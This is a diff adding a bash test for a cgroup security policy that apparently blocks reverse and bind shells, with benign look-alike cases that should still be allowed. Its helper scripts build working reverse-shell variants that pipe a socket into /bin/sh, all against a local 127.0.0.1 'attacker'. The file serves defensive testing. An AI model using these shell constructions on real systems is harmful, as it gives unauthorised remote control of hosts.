@@ -1,0 +1,147 @@
+# SPDX-License-Identifier: GPL-2.0-only
+# Shells whose input leads to a connection and whose answers go over one of their own.
+# shellcheck shell=bash disable=SC2016,SC2034,SC2154
+
+python=/usr/bin/python3
+cg=$(cgroup free)
+
+# The other end: says what it was told to, and what came back.
+cat >attacker.py <<'END'
+import socket, sys
+s = socket.create_server(("127.0.0.1", 4340))
+print("ready", flush=True)
+s.settimeout(int(sys.argv[1]))
+data = b""
+try:
+    c = s.accept()[0]
+    c.settimeout(int(sys.argv[1]))
+    c.sendall(b"exec >&7 2>&1; echo GOT$((40+2))\n")
+    while b"GOT42" not in data:
+        new = c.recv(4096)
+        if not new:
+            break
+        data += new
+except OSError:
+    pass
+print("owned" if b"GOT42" in data else "nothing", flush=True)
+END
+
+# Descriptor 7 is the connection, of which the shell's input is not the end.
+cat >own.py <<'END'
+import os, socket, subprocess, sys
+what = sys.argv[1]
+s = socket.create_connection(("127.0.0.1", 4340))
+os.dup2(s.fileno(), 7)
+null = subprocess.DEVNULL
+def sh(*args, **also):
+    return subprocess.Popen(["/bin/sh", *args], pass_fds=[7], **{"stdout": null, "stderr": null, **also})
+def relay(write):
+    while d := s.recv(4096):
+        write(d)
+if what == "shell_first":
+    p = sh(stdin=subprocess.PIPE, bufsize=0)
+    relay(p.stdin.write)
+elif what == "each_anew":
+    while d := s.recv(4096):
+        sh(stdin=subprocess.PIPE).communicate(d)
+elif what == "between":
+    r, w = os.pipe()
+    cat = subprocess.Popen(["/usr/bin/cat"], stdin=r, stdout=subprocess.PIPE)
+    p = sh(stdin=cat.stdout)
+    relay(lambda d: os.write(w, d))
+elif what == "away":
+    # What it says to begin with goes to somebody without a connection.
+    sink = subprocess.Popen(["/usr/bin/cat"], stdin=subprocess.PIPE, stdout=null)
+    p = sh(stdin=subprocess.PIPE, stdout=sink.stdin, bufsize=0)
+    relay(p.stdin.write)
+END
+
+patience=40
+# attack COMMAND...: in the cgroup, against an attacker that listens
+attack() {
+	$python attacker.py $patience >attacker.out 2>&1 &
+	poll grep -q ready attacker.out
+	timeout 60 /opt/csec/bin/cgexec "$cg" "$@" </dev/null >attack.out 2>&1 &
+	local pid=$!
+	poll grep -qE 'owned|nothing' attacker.out
+	kill $pid 2>/dev/null
+	echo 1 >"$cg/cgroup.kill" 2>/dev/null
+	wait $pid 2>/dev/null
+	cat attacker.out
+}
+
+attacks=(shell_first each_anew between away)
+for name in "${attacks[@]}"; do
+	contains "without a policy: $name" owned attack $python "$dir/own.py" $name
+done
+
+policy=own
+cg=$(cgroup deny)
+govern own "$cg" <<'END' || fail 'a policy is pushed'
+shells: {reverse: deny, bind: deny, connect: deny}
+END
+patience=20
+for name in "${attacks[@]}"; do
+	before=$(counter own reverse_shell)
+	lacks "$name: is stopped" owned attack $python "$dir/own.py" $name
+	at_least "$name: is counted" $((before + 1)) "$(counter own reverse_shell)"
+done
+
+# What looks alike. A service that leaves its connections open in all that it starts
+# goes on to receive meanwhile.
+cat >service.py <<'END'
+import os, socket, subprocess, sys, threading, time
+def listen(port):
+    server = socket.create_server(("127.0.0.1", port))
+    def serve(c):
+        while c.recv(1):
+            c.sendall(b"row")
+    def accept():
+        while True:
+            threading.Thread(target=serve, args=[server.accept()[0]], daemon=True).start()
+    threading.Thread(target=accept, daemon=True).start()
+listen(4341)
+s = socket.create_connection(("127.0.0.1", 4341))
+os.dup2(s.fileno(), 7)
+os.set_inheritable(7, True)
+def ask():
+    s.sendall(b"?")
+    return s.recv(10) == b"row"
+ask()
+open("list", "w").write("echo one-$((40+2))\n")
+open("script", "w").write("#!/bin/sh\ncat list | while read -r l; do sleep 1; echo \"$l\" >>said; done\ncat list | sh\n")
+os.chmod("script", 0o755)
+for command in (["/bin/sh", "-c", "cat list | sh"],
+                ["/bin/sh", "-c", "(cat list; sleep 2) | /bin/sh >said"],
+                ["/bin/sh", "-c", "(cat list; sleep 2) | while read -r l; do echo $l; done"],
+                ["./script"], ["/bin/sh", "script"]):
+    p = subprocess.Popen(command, stdin=subprocess.DEVNULL, close_fds=False)
+    while p.poll() is None:
+        if not ask():
+            sys.exit("no row")
+        time.sleep(0.05)
+    if p.returncode:
+        sys.exit(f"{command}: {p.returncode}")
+print("all-ran")
+END
+allowed 'a service whose connection is open in all that it starts' in_cgroup "$cg" $python "$dir/service.py"
+contains 'ran all of it' all-ran echo "$out"
+
+# inetd: the accepted connection is what the script has, and all that it starts.
+cat >inetd.py <<'END'
+import os, socket, subprocess, sys
+server = socket.create_server(("127.0.0.1", 4342))
+c = socket.create_connection(("127.0.0.1", 4342))
+s = server.accept()[0]
+p = subprocess.Popen(["./answer"], stdin=s, stdout=s, stderr=s)
+for i in range(20):
+    c.sendall(b"line\n")
+    if c.recv(100) != b"got line\n":
+        sys.exit("refused")
+c.shutdown(socket.SHUT_WR)
+print("all-ran" if not p.wait() else "refused")
+END
+printf '#!/bin/sh\ncat | while read -r l; do echo "got $l"; done\n' >answer
+chmod 755 answer
+allowed 'inetd: a script whose part answers' in_cgroup "$cg" $python "$dir/inetd.py"
+contains 'ran all of it' all-ran echo "$out"
